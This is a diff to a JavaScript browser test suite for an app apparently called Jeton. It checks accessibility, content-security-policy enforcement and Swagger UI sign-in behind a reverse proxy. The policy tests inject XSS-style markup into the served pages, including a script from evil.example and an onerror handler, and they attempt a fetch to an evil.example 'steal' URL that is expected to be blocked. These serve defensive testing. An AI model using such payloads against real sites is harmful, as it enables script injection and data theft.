@@ -1,15 +1,17 @@
-// Jeton's own pages: well made, under a policy that holds, and behind a path of a proxy's too.
+// Jeton's pages: accessibility, content security policy, and Swagger UI behind a reverse proxy with a path.
 
-import { createServer, request as ask } from "node:http";
+import { createServer, request as sendRequest } from "node:http";
 
-import { equal, expect, expectPolicy, seen, shoot, step, visitor, wellMade } from "./browser.mjs";
+import {
+  checkAccessibility, equal, expectPolicyViolations, newContext, screenshot, step, visible,
+} from "./browser.mjs";
 import { API, ISSUER, PASSWORD, until, startBehindProxy, PROXY } from "./processes.mjs";
-import { personIn } from "./swagger.mjs";
+import { passwordSection } from "./jeton_swagger_ui.mjs";
 
-/** What a hole in a page would let in: a script within the markup, one from elsewhere, a handler, a style. */
+/** Injected markup: an inline script, a script of another origin, an event handler, and a style. */
 const INJECTED = `<script>window.ran = "inline"</script><script src="https://evil.example/x.js"></script>
   <img src="x:" onerror="window.ran = 'handler'"><style>body { --ran: style }</style>`;
-const SHAPES = [
+const SCREENS = [
   ["light", { colorScheme: "light" }],
   ["dark", { colorScheme: "dark" }],
   ["phone", { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, colorScheme: "light" }],
@@ -17,7 +19,7 @@ const SHAPES = [
 ];
 
 export async function pages() {
-  for (const [name, options] of SHAPES) await landing(name, options);
+  for (const [name, options] of SCREENS) await landing(name, options);
   for (const [name, url] of [
     ["the landing page", `${ISSUER}/`], ["Jeton's Swagger UI", `${ISSUER}/docs`],
     ["the page of /my-info", `${API}/`], ["Swagger UI of /my-info", `${API}/docs`],
@@ -26,42 +28,42 @@ export async function pages() {
 }
 
 async function landing(name, options) {
-  const context = await visitor(options);
+  const context = await newContext(options);
   const page = await context.newPage();
-  await step(`the landing page is well made: ${name}`, async () => {
+  await step(`the landing page is accessible: ${name}`, async () => {
     await page.goto(`${ISSUER}/`);
-    await seen(page.getByRole("heading", { name: "Jeton" }));
-    await wellMade(page);
-    await shoot(page, `landing-${name}`);
+    await visible(page.getByRole("heading", { name: "Jeton" }));
+    await checkAccessibility(page);
+    await screenshot(page, `landing-${name}`);
     await page.getByRole("link", { name: "Try it" }).click();
-    await seen(page.getByRole("button", { name: "Authorize" }).first());
+    await visible(page.getByRole("button", { name: "Authorize" }).first());
   });
   await context.close();
 }
 
 async function injected(name, url) {
-  const context = await visitor();
+  const context = await newContext();
   const page = await context.newPage();
-  await step(`${name}: what is injected does not run`, async () => {
-    // The same document, with the same policy, as an attacker would like to have it.
+  await step(`${name}: injected scripts do not run`, async () => {
+    // The same document and policy, with the injected markup.
     await page.route(url, async (route) => {
-      const answer = await route.fetch();
-      const text = await answer.text();
-      // The last one: Swagger UI's own script speaks of others.
+      const response = await route.fetch();
+      const text = await response.text();
+      // The last one, because Swagger UI's script contains others.
       const end = text.lastIndexOf("</body>");
-      await route.fulfill({ response: answer, body: text.slice(0, end) + INJECTED + text.slice(end) });
+      await route.fulfill({ response, body: text.slice(0, end) + INJECTED + text.slice(end) });
     });
-    expectPolicy();
+    expectPolicyViolations();
     await page.goto(url);
     await page.locator("img[onerror]").waitFor({ state: "attached" });
     await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));
-    equal(await page.evaluate(() => window.ran ?? null), null, "what ran");
+    equal(await page.evaluate(() => window.ran ?? null), null, "the injected script that ran");
     equal(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue("--ran")), "", "the style");
     const sent = await page.evaluate(() => fetch("https://evil.example/steal").then(() => "sent", () => "blocked"));
-    equal(sent, "blocked", "a request to elsewhere");
+    equal(sent, "blocked", "a request to another origin");
   });
-  await step(`${name}: no other page holds it in a frame`, async () => {
-    expectPolicy();
+  await step(`${name}: no other origin can frame it`, async () => {
+    expectPolicyViolations();
     const other = await context.newPage();
     const frame = url.startsWith(ISSUER) ? `${API}/` : `${ISSUER}/`;
     await other.route(frame, (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="${url}"></iframe>` }));
@@ -75,17 +77,17 @@ async function injected(name, url) {
   await context.close();
 }
 
-/** A proxy that gives Jeton a path, which Jeton sees (`strips` false) or does not. */
-function proxy(target, strips) {
+/** Starts a reverse proxy that serves `target` under /auth. With `strips`, it removes the path before forwarding. */
+function startProxy(target, strips) {
   const server = createServer((incoming, outgoing) => {
     const path = strips ? incoming.url.replace(/^\/auth/, "") || "/" : incoming.url;
     const { hostname, port } = new URL(target);
-    const onward = ask({ hostname, port, path, method: incoming.method, headers: incoming.headers }, (answer) => {
-      outgoing.writeHead(answer.statusCode, answer.rawHeaders);
-      answer.pipe(outgoing);
+    const forwarded = sendRequest({ hostname, port, path, method: incoming.method, headers: incoming.headers }, (response) => {
+      outgoing.writeHead(response.statusCode, response.rawHeaders);
+      response.pipe(outgoing);
     });
-    onward.on("error", () => outgoing.destroy());
-    incoming.pipe(onward);
+    forwarded.on("error", () => outgoing.destroy());
+    incoming.pipe(forwarded);
   });
   return new Promise((resolve) => server.listen(new URL(PROXY).port, "127.0.0.1", () => resolve(server)));
 }
@@ -93,19 +95,19 @@ function proxy(target, strips) {
 async function behindProxy() {
   const target = await startBehindProxy();
   for (const strips of [true, false]) {
-    const server = await proxy(target, strips);
-    const context = await visitor();
+    const server = await startProxy(target, strips);
+    const context = await newContext();
     const page = await context.newPage();
     await step(`Swagger UI signs in behind a path that the proxy ${strips ? "strips" : "keeps"}`, async () => {
       await page.goto(`${PROXY}/auth/`);
       await page.getByRole("link", { name: "Try it" }).click();
       await page.getByRole("button", { name: "Authorize" }).first().click();
       const dialog = page.locator(".modal-ux");
-      const person = personIn(dialog);
-      await person.locator("#oauth_username").fill("admin");
-      await person.locator("#oauth_password").fill(PASSWORD);
+      const section = passwordSection(dialog);
+      await section.locator("#oauth_username").fill("admin");
+      await section.locator("#oauth_password").fill(PASSWORD);
       const tokens = page.waitForResponse(`${PROXY}/auth/token`);
-      await person.getByRole("button", { name: /^(Apply given OAuth2|Authorize)/ }).click();
+      await section.getByRole("button", { name: /^(Apply given OAuth2|Authorize)/ }).click();
       equal((await tokens).status(), 200, "/token");
       await dialog.getByRole("button", { name: /^Close/ }).first().click();
       const block = page.locator("#operations-Account-fetchAccount");
